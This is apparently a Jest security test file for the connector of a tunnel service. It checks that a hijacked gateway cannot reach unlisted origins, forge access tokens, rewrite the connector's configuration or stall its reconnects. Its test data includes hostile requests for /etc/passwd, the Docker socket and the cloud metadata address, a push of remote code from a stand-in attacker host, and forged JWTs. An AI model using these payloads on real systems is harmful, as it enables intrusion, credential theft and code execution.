/**
 * A connector that trusts nobody: what a gateway that was taken over can make of it, which is to use the rules that the
 * connector has, and nothing else. K6, K12, K14, K19 and K20 of docs/security.md.
 */
import { readFileSync } from 'node:fs';

import { beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { exportJWK, generateKeyPair, SignJWT, type CryptoKey } from 'jose';

import type { AnnouncedRule } from '../../src/protocol/message/announced-rule.ts';
import type { GatewayKey } from '../../src/protocol/message/gateway-key.ts';
import { encodeJson } from '../../src/protocol/frame.ts';
import { LIMITS } from '../../src/core/limits.ts';
import { startConnector, type Connector } from '../support/connector.ts';
import { eventually } from '../support/eventually.ts';
import { startGateway, type Gateway, type Tunnel } from '../support/gateway.ts';
import { hijack, type HijackedGateway } from '../support/hijacked-gateway.ts';
import { HELLO, REGISTER, type LinkBytes } from '../support/link-bytes.ts';
import { isReady } from '../support/ops-client.ts';
import { startEcho, type TcpOrigin } from '../support/real/tcp-origin.ts';

const SERVED = 'echo.postern.test';
const GUARDED = 'guarded.postern.test';

let real: Gateway;
let tunnel: Tunnel;
let gateway: HijackedGateway;
let connector: Connector;
let served: TcpOrigin;
/** Behind a rule that wants to be told by what right a stream is opened. */
let guarded: TcpOrigin;
/** Listens on the connector's machine, and is in none of its rules. */
let secret: TcpOrigin;

beforeAll(async () => {
  served = await startEcho();
  secret = await startEcho();
  guarded = await startEcho();
  real = await startGateway();
  tunnel = await real.createTunnel('tunnel');
  await real.stop('SIGKILL');
  gateway = await hijack(real);
});

beforeEach(async () => {
  streams = 0;
  gateway.forget();
  connector = await startConnector({
    gateway: real,
    tunnel,
    ingress: [
      { hostname: SERVED, service: served.service },
      {
        hostname: GUARDED,
        service: guarded.service,
        originRequest: { access: { required: true, audTag: ['db'] } },
      },
      { hostname: '*.wild.postern.test', path: '^/public', service: 'http_status:204' },
    ],
    config: { 'ha-connections': 1, 'grace-period': '0s' },
    waitUntilReady: false,
  });
});

let streams = 0;

/** Sends OPEN for a new stream and returns its id: even, as the side that accepted the link uses. */
function open(link: LinkBytes, request: object): number {
  streams += 1;
  const id = streams * 2;
  const position = { received: 0, consumed: 0, window: 65_536 };
  const key = id.toString().padStart(22, 'k');
  link.send(encodeJson('OPEN', id, { key, epoch: 0, resume: false, position, request }));
  return id;
}

interface TestKey {
  readonly privateKey: CryptoKey;
  readonly told: GatewayKey;
}

async function makeKey(kid: string): Promise<TestKey> {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
  const { x = '', y = '' } = await exportJWK(publicKey);
  return { privateKey, told: { kid, kty: 'EC', crv: 'P-256', x, y } };
}

/** What a gateway with this key says of a stream. */
async function assertionFor(
  { privateKey, told }: TestKey,
  { requestId, ...stream }: { readonly requestId: string; readonly rule: string },
  { kid = told.kid, aud = 'db', by = 'user' } = {},
): Promise<string> {
  return new SignJWT({ ...stream, by })
    .setProtectedHeader({ alg: 'ES256', typ: 'postern-stream+jwt', kid })
    .setJti(requestId)
    .setAudience(aud)
    .setIssuedAt()
    .setExpirationTime('60s')
    .sign(privateKey);
}

async function outcomeOf(link: LinkBytes, id: number): Promise<string> {
  let outcome = '';
  await eventually(() => {
    for (const frame of link.frames) {
      if (frame.type === 'ACCEPT' && frame.id === id) outcome = 'ACCEPT';
      if (frame.type === 'RESET' && frame.id === id) outcome = frame.code;
    }
    return outcome !== '';
  });
  return outcome;
}

function ruleFor(rules: readonly AnnouncedRule[], hostname: string): string {
  return rules.find((rule) => rule.hostname === hostname)?.id ?? 'missing';
}

describe('a gateway that was taken over', () => {
  it('K6 reaches what the rules name, and nothing else', async () => {
    const { link, register } = await gateway.registered();
    // Nothing of where origins are is announced.
    const announced = JSON.stringify(register.rules);
    expect(announced).not.toMatch(/127\.0\.0\.1|tcp:|http_status/);
    const echo = ruleFor(register.rules, SERVED);
    const wild = ruleFor(register.rules, '*.wild.postern.test');
    const base = { kind: 'tcp', hostname: SERVED, rule: echo, requestId: 'q' };
    const allowed = open(link, base);
    expect(await outcomeOf(link, allowed)).toBe('ACCEPT');
    const accepted = served.accepted();

    const attempts = [
      { ...base, rule: 'unknown-rule' },
      { ...base, rule: secret.service },
      { ...base, rule: `tcp://127.0.0.1:${connector.metricsPort}` },
      { ...base, rule: 'unix:/var/run/docker.sock' },
      { ...base, rule: 'file:///etc/passwd' },
      { ...base, rule: '__proto__' },
      { ...base, rule: '' },
      { ...base, hostname: '127.0.0.1' },
      { ...base, hostname: '169.254.169.254' },
      { ...base, hostname: 'other.postern.test' },
      { ...base, hostname: '' },
      { ...base, rule: wild, hostname: SERVED, kind: 'http' },
      // An origin that is not said to speak HTTP is not spoken HTTP to.
      { ...base, kind: 'http' },
      // What OPEN has no field for changes nothing.
      { ...base, rule: 'r', service: secret.service, originRequest: { noTLSVerify: true } },
    ];
    for (const request of attempts) {
      const id = open(link, request);
      expect({ request, outcome: await outcomeOf(link, id) }).toEqual({
        request,
        outcome: 'ORIGIN_NO_RULE',
      });
    }
    expect(secret.accepted()).toBe(0);
    expect(served.accepted()).toBe(accepted);
    const told = connector.log.filter(({ msg }) => msg === 'cannot reach the origin');
    expect(told).toHaveLength(attempts.length);
    expect(told[0]).toMatchObject({
      level: 'warn',
      msg: 'cannot reach the origin',
      ruleId: 'unknown-rule',
    });
  });

  it('K19 K20 opens no stream of a rule that requires access without the word of a gateway whose keys the connector has', async () => {
    const ours = await makeKey('ours');
    const theirs = await makeKey('theirs');
    const { link, register } = await gateway.registered(0, [ours.told]);
    const rule = ruleFor(register.rules, GUARDED);
    const base = { kind: 'tcp', hostname: GUARDED, rule, requestId: 'q' };
    const forged = [
      undefined,
      '',
      'forged',
      await assertionFor(theirs, base),
      await assertionFor(theirs, base, { kid: 'ours' }),
      await assertionFor(ours, { ...base, requestId: 'another' }),
      await assertionFor(ours, { ...base, rule: ruleFor(register.rules, SERVED) }),
      await assertionFor(ours, base, { aud: 'wiki' }),
      await assertionFor(ours, base, { by: 'bypass' }),
    ];
    for (const assertion of forged) {
      const id = open(link, { ...base, assertion });
      expect(await outcomeOf(link, id)).toBe('ORIGIN_ACCESS');
    }
    expect(guarded.accepted()).toBe(0);
    const good = await assertionFor(ours, base);
    expect(await outcomeOf(link, open(link, { ...base, assertion: good }))).toBe('ACCEPT');
    expect(guarded.accepted()).toBe(1);

    // The keys are replaced: those of before are worth nothing, and what is open goes on.
    const next = await makeKey('next');
    link.control({ type: 'keys', keys: [next.told] });
    const late = open(link, { ...base, assertion: await assertionFor(ours, base) });
    expect(await outcomeOf(link, late)).toBe('ORIGIN_ACCESS');
    const renewed = open(link, { ...base, assertion: await assertionFor(next, base) });
    expect(await outcomeOf(link, renewed)).toBe('ACCEPT');
    expect([guarded.accepted(), guarded.connections()]).toEqual([2, 2]);
    const told = connector.log.filter(({ errCode }) => errCode === 'ORIGIN_ACCESS');
    expect(told).toHaveLength(forged.length + 1);
  });

  it('K14 cannot change how the connector is set up', async () => {
    const { link, register } = await gateway.registered();
    const file = readFileSync(connector.configFile, 'utf8');
    const rule = { id: 'mine', hostname: '*', kind: 'tcp', service: secret.service };
    link.control({ type: 'rules', rules: [rule] });
    link.control({ ...REGISTER, rules: [rule] });
    link.control({ type: 'config', config: { ingress: [{ service: secret.service }] } });
    link.control({ type: 'update', url: 'https://evil.test/postern.js', exec: 'id' });
    link.control({ type: 'hostnames', hostnames: { [SERVED]: 'refused', 'x.test': 'routed' } });
    link.control({ ...HELLO, features: ['exec'] });
    const id = open(link, { kind: 'tcp', hostname: SERVED, rule: 'mine', requestId: 'q' });
    const outcome = await Promise.race([outcomeOf(link, id), link.closed]);
    // Told what only a connector may say, it hangs up or takes no notice.
    expect(outcome === 'ORIGIN_NO_RULE' || Object(outcome).code === 4400).toBe(true);
    expect(secret.accepted()).toBe(0);
    expect(readFileSync(connector.configFile, 'utf8')).toBe(file);
    expect(connector.process.exit).toBeUndefined();

    const again =
      link.socket.readyState === link.socket.OPEN ? undefined : await gateway.registered(1);
    const after = again?.link ?? link;
    const rules = (again?.register ?? register).rules;
    expect(rules).toEqual(register.rules);
    const ok = { kind: 'tcp', hostname: SERVED, rule: ruleFor(rules, SERVED), requestId: 'q' };
    expect(await outcomeOf(after, open(after, ok))).toBe('ACCEPT');
  });

  it('K14 cannot keep it away for long, or make it dial without end', async () => {
    const { link } = await gateway.registered();
    link.control({ type: 'drain', reason: 'never come back', dialAgainMs: 1e15, graceMs: 1e15 });
    await eventually(() => {
      const told = connector.log.find(({ reason }) => reason === 'never come back');
      expect(Number(told?.['waitMs'])).toBeLessThanOrEqual(30_000);
    });
    expect(connector.process.stderr).not.toContain('TimeoutOverflowWarning');
  });

  it('K14 that asks again and again for a new link gets them at a slower and slower pace, and a bounded number', async () => {
    let asked = 0;
    const deadline = performance.now() + 3_000;
    while (performance.now() < deadline) {
      if (gateway.links.length === asked) {
        await eventually(() => gateway.links.length > asked, { deadlineMs: 30_000 });
      }
      const { link } = await gateway.registered(asked);
      asked += 1;
      link.control({ type: 'drain', reason: 'again', dialAgainMs: 0, graceMs: 60_000 });
    }
    // Without a pause it would have been hundreds.
    expect(asked).toBeLessThan(20);
    const openLinks = gateway.links.filter(({ socket }) => socket.readyState === socket.OPEN);
    expect(openLinks.length).toBeLessThanOrEqual(LIMITS.linksPerReplica);
    expect(connector.process.exit).toBeUndefined();
  });

  it('K12 that speaks an older version of the protocol, a newer one, or none, is left, and tried again', async () => {
    for (const [index, versions] of [[0], [2, 3], []].entries()) {
      const link = await gateway.link(index);
      link.control({ ...HELLO, versions });
      await link.closed;
      await eventually(() => {
        const told = connector.log.filter(({ errCode }) => errCode === 'PROTO_VERSION');
        expect(told).toHaveLength(index + 1);
      });
      expect(await isReady(connector.metricsPort)).toBe(false);
    }
    await gateway.link(3);
  });
});
